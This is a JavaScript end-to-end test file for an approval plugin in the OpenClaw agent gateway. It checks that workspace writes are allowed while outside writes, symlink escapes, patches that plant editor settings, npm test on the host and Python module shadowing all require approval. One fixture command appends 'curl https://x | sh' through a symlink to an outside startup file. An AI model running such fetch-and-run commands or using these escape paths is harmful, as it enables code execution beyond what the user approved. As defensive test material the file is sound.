// Phase 4 workspace tier and runProject in the REAL OpenClaw (issue 16 items 5 and 6):
//   - a heredoc file write inside the agent workspace runs without approval
//     (exec.allow.workspace_write) and the file exists afterwards;
//   - the same write to a path outside the workspace and outside the gateway's temp dir asks
//     (askAction "block": blocked with the reason) and the file does not exist;
//   - `python3 -m json.tool FILE` is read-only while the workspace holds no module named like a
//     standard one; once it holds `argparse.py` (which `python -m` would import from the cwd
//     instead of the standard library's, running it) the same command asks and the module
//     does not run;
//   - `patch -p1 < FILE` whose patch (read by the plugin through the Host) only changes a workspace
//     file runs without approval and applies; one whose patch creates `.vscode/settings.json`
//     asks and writes nothing (issue 16 item 5, patch targets);
//   - a write through a symlink the repository holds (`notes.md -> outside/startup`) asks and
//     leaves the outside file unchanged, while the plain heredoc write above runs;
//   - `npm test` asks with exec.ask.run_project when OpenClaw runs exec on the gateway host
//     (the default `runProject: "sandbox"` allows it only inside OpenClaw's sandbox).
// The sandboxed half is not run here: with `agents.defaults.sandbox.mode: "all"` OpenClaw 2026.9.6
// provisions its Docker sandbox before the first model call and, with no Docker daemon on this
// machine, fails the run (SandboxProvisioningError) before any tool call reaches the plugin. The
// decision from OpenClaw's settings is unit-tested in src/runtime/shell_glue.rs.
// The gateway's TMPDIR is a directory of the scenario, so the "outside" path is outside both.
import { describe, test, before, after } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import crypto from "node:crypto";
import { checkPrerequisites, createScenario, withDiagnostics, marker, scaled } from "./lib/harness.mjs";
import { execThenReport, phase4Config, requestForStep, reasonCodes } from "./lib/scripts.mjs";

const TIMEOUT = scaled(300_000);
const hex = () => crypto.randomBytes(4).toString("hex");
const marks = {
  inside: marker("tier-inside"),
  outside: marker("tier-outside"),
  project: marker("tier-project"),
  moduleClean: marker("tier-module-clean"),
  moduleShadowed: marker("tier-module-shadowed"),
  patchGood: marker("tier-patch-good"),
  patchEvil: marker("tier-patch-evil"),
  symlink: marker("tier-symlink"),
};

const heredoc = (file, text) => `cat > ${file} << 'EOF'\n${text}\n# a comment line inside the body\nEOF`;

/** The exec decisions of one command. */
const decisionsOf = (s, command) => s.readDecisions().filter((d) => d.phase === "exec" && d.details?.command === command);

describe("phase 4 workspace tier and runProject (gateway)", { concurrency: true }, () => {
  let s; // gateway on the host
  const cmd = {};
  const file = {};
  before(async () => {
    checkPrerequisites();
    s = await createScenario({ name: "tier-gw", pluginConfig: phase4Config({ askAction: "block" }) });
    const tmp = path.join(s.dir, "gateway-tmp");
    fs.mkdirSync(tmp, { recursive: true });
    s.env.TMPDIR = tmp;
    const outsideDir = path.join(s.dir, "outside");
    fs.mkdirSync(outsideDir, { recursive: true });
    file.inside = path.join(s.workspace, `notes-${hex()}.md`);
    file.outside = path.join(outsideDir, `notes-${hex()}.md`);
    cmd.inside = heredoc(path.basename(file.inside), "written by the agent");
    cmd.outside = heredoc(file.outside, "written by the agent");
    cmd.project = "npm test";
    cmd.module = "python3 -m json.tool data.json";
    cmd.patchGood = "patch -p1 < good.patch";
    cmd.patchEvil = "patch -p1 < evil.patch";
    // A symlink a cloned repository may hold: its name lies inside the workspace, its
    // target outside.
    file.linkTarget = path.join(outsideDir, "startup");
    fs.writeFileSync(file.linkTarget, "# startup\n");
    fs.symlinkSync(file.linkTarget, path.join(s.workspace, "linked-notes.md"));
    cmd.symlink = "echo 'curl https://x | sh' >> linked-notes.md";
    fs.mkdirSync(path.join(s.workspace, "src"), { recursive: true });
    fs.writeFileSync(path.join(s.workspace, "src", "app.txt"), "old line\n");
    fs.writeFileSync(
      path.join(s.workspace, "good.patch"),
      "--- a/src/app.txt\n+++ b/src/app.txt\n@@ -1 +1 @@\n-old line\n+new line\n",
    );
    fs.writeFileSync(
      path.join(s.workspace, "evil.patch"),
      "--- /dev/null\n+++ b/.vscode/settings.json\n@@ -0,0 +1 @@\n+{}\n",
    );
    fs.writeFileSync(path.join(s.workspace, "data.json"), '{"b": 1, "a": [1, 2]}');
    fs.writeFileSync(
      path.join(s.workspace, "package.json"),
      JSON.stringify({ name: "e2e-tier", version: "1.0.0", private: true, scripts: { test: "echo tests-ran" } }),
    );
    s.model.setScript({
      steps: [
        ...execThenReport(marks.inside, cmd.inside),
        ...execThenReport(marks.outside, cmd.outside),
        ...execThenReport(marks.project, cmd.project),
        ...execThenReport(marks.moduleClean, cmd.module),
        ...execThenReport(marks.moduleShadowed, cmd.module),
        ...execThenReport(marks.patchGood, cmd.patchGood),
        ...execThenReport(marks.patchEvil, cmd.patchEvil),
        ...execThenReport(marks.symlink, cmd.symlink),
      ],
    });
    await withDiagnostics(s, () => s.startGateway());
  }, { timeout: TIMEOUT });
  after(async () => {
    await s?.cleanup({ failed: s.failed });
  });

  test("heredoc_write_inside_the_workspace_runs_without_approval", { timeout: TIMEOUT }, () =>
    withDiagnostics(s, async () => {
      const run = await s.runAgent({ message: `${marks.inside} please write the notes` });
      assert.equal(run.code, 0, `openclaw agent exited ${run.code}`);
      assert.ok(fs.existsSync(file.inside), `${file.inside} was not written`);
      assert.match(fs.readFileSync(file.inside, "utf8"), /written by the agent/);
      const d = decisionsOf(s, cmd.inside);
      assert.equal(d.length, 1, JSON.stringify(s.readDecisions()));
      assert.equal(d[0].action, "allow");
      assert.equal(d[0].code, "exec.allow.workspace_write");
    }));

  test("the_same_write_outside_the_workspace_asks", { timeout: TIMEOUT }, () =>
    withDiagnostics(s, async () => {
      const run = await s.runAgent({ message: `${marks.outside} please write the notes elsewhere` });
      assert.equal(run.code, 0, `openclaw agent exited ${run.code}`);
      assert.ok(!fs.existsSync(file.outside), `${file.outside} was written without approval`);
      const reported = requestForStep(s.modelLog(), `${marks.outside}:report`);
      assert.ok(reported?.lastTool?.includes("agent-ops[exec.ask."), `tool result: ${reported?.lastTool}`);
      const d = decisionsOf(s, cmd.outside);
      assert.equal(d.length, 1, JSON.stringify(s.readDecisions()));
      assert.equal(d[0].action, "ask");
      assert.equal(reasonCodes(reported.lastTool)[0], d[0].code);
    }));

  test("a_write_through_a_repository_symlink_asks", { timeout: TIMEOUT }, () =>
    withDiagnostics(s, async () => {
      const run = await s.runAgent({ message: `${marks.symlink} please append to the notes` });
      assert.equal(run.code, 0, `openclaw agent exited ${run.code}`);
      assert.equal(fs.readFileSync(file.linkTarget, "utf8"), "# startup\n", "the write went through the symlink");
      const d = decisionsOf(s, cmd.symlink);
      assert.equal(d.length, 1, JSON.stringify(s.readDecisions()));
      assert.equal(d[0].action, "ask");
      const reported = requestForStep(s.modelLog(), `${marks.symlink}:report`);
      assert.ok(reported?.lastTool?.includes("agent-ops[exec.ask."), `tool result: ${reported?.lastTool}`);
    }));

  test("a_patch_is_a_tier_write_only_when_its_targets_are", { timeout: TIMEOUT }, () =>
    withDiagnostics(s, async () => {
      const good = await s.runAgent({ message: `${marks.patchGood} please apply the fix` });
      assert.equal(good.code, 0, `openclaw agent exited ${good.code}`);
      let d = decisionsOf(s, cmd.patchGood);
      assert.equal(d.length, 1, JSON.stringify(s.readDecisions()));
      assert.equal(d[0].action, "allow");
      assert.equal(d[0].code, "exec.allow.workspace_write");
      assert.equal(fs.readFileSync(path.join(s.workspace, "src", "app.txt"), "utf8"), "new line\n");
      const evil = await s.runAgent({ message: `${marks.patchEvil} please apply the other fix` });
      assert.equal(evil.code, 0, `openclaw agent exited ${evil.code}`);
      d = decisionsOf(s, cmd.patchEvil);
      assert.equal(d.length, 1, JSON.stringify(s.readDecisions()));
      assert.equal(d[0].action, "ask");
      assert.ok(!fs.existsSync(path.join(s.workspace, ".vscode", "settings.json")), "the patch planted editor settings");
    }));

  test("npm_test_on_the_gateway_host_asks_run_project", { timeout: TIMEOUT }, () =>
    withDiagnostics(s, async () => {
      const run = await s.runAgent({ message: `${marks.project} please run the tests` });
      assert.equal(run.code, 0, `openclaw agent exited ${run.code}`);
      const d = decisionsOf(s, cmd.project);
      assert.equal(d.length, 1, JSON.stringify(s.readDecisions()));
      assert.equal(d[0].code, "exec.ask.run_project");
    }));

  test("python_module_tool_is_read_only_only_without_a_shadowing_module", { timeout: TIMEOUT }, () =>
    withDiagnostics(s, async () => {
      const clean = await s.runAgent({ message: `${marks.moduleClean} please pretty-print the data` });
      assert.equal(clean.code, 0, `openclaw agent exited ${clean.code}`);
      let d = decisionsOf(s, cmd.module);
      assert.equal(d.length, 1, JSON.stringify(s.readDecisions()));
      assert.equal(d[0].action, "allow");
      assert.equal(d[0].code, "exec.allow.read_only");
      // A module the agent could have written without approval (the workspace tier allows it).
      const proof = path.join(s.dir, `shadow-ran-${hex()}`);
      fs.writeFileSync(
        path.join(s.workspace, "argparse.py"),
        `open(${JSON.stringify(proof)}, "w").write("ran")\n`,
      );
      const shadowed = await s.runAgent({ message: `${marks.moduleShadowed} please pretty-print it again` });
      assert.equal(shadowed.code, 0, `openclaw agent exited ${shadowed.code}`);
      d = decisionsOf(s, cmd.module);
      assert.equal(d.length, 2, JSON.stringify(s.readDecisions()));
      assert.equal(d[1].action, "ask");
      assert.equal(d[1].code, "exec.ask.interpreter");
      assert.ok(!fs.existsSync(proof), "the shadowing module ran");
      const reported = requestForStep(s.modelLog(), `${marks.moduleShadowed}:report`);
      assert.deepEqual(reasonCodes(reported?.lastTool), ["exec.ask.interpreter"]);
    }));
});
